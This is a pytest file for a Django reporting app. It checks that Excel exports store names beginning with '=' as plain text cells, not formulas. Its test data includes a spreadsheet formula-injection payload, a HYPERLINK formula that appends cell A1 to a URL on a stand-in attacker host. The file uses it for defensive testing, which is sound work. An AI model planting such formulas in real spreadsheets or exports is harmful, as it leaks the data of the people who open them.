"""Excel exports never turn text into formulas: a procedure, field or agency name that starts with "=" (an admin
edit, a catalog import) is written as the text it is. (Names starting with "+", "-" or "@" are formulas only when
typed into a spreadsheet or read from CSV; in an .xlsx they are string cells, which every text cell now is.)"""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from procedures.models import Field
from tests.builders import at, vn

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "=1+1"]


@pytest.mark.parametrize("name", NAMES)
def test_text_cells_of_the_ii06a_and_766_workbooks_stay_text(world, client, name):  # noqa: F811
    Field.objects.filter(pk=world.procedure.field_id).update(name=name)
    world.procedure.name = name
    world.procedure.save(update_fields=["name"])
    world.dept.name = name
    world.dept.save(update_fields=["name"])
    with at(vn(2025, 3, 10, 9, 0)):
        world.processing()
    client.force_login(world.user("inspector@province"))
    period = "start=01/03/2025&end=31/03/2025"
    files = [client.get(f"/can-bo/bao-cao/?{period}&grouping={group}&format=xlsx")
             for group in ("agency", "field", "procedure")]
    files.append(client.get(f"/can-bo/bao-cao/chi-so-766/?{period}&format=xlsx"))
    for response in files:
        assert response.status_code == 200, response
        sheet = load_workbook(BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == name]
        assert cells, "the name is in the workbook"
        assert all(cell.data_type == "s" for cell in cells), [(c.coordinate, c.data_type) for c in cells]
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
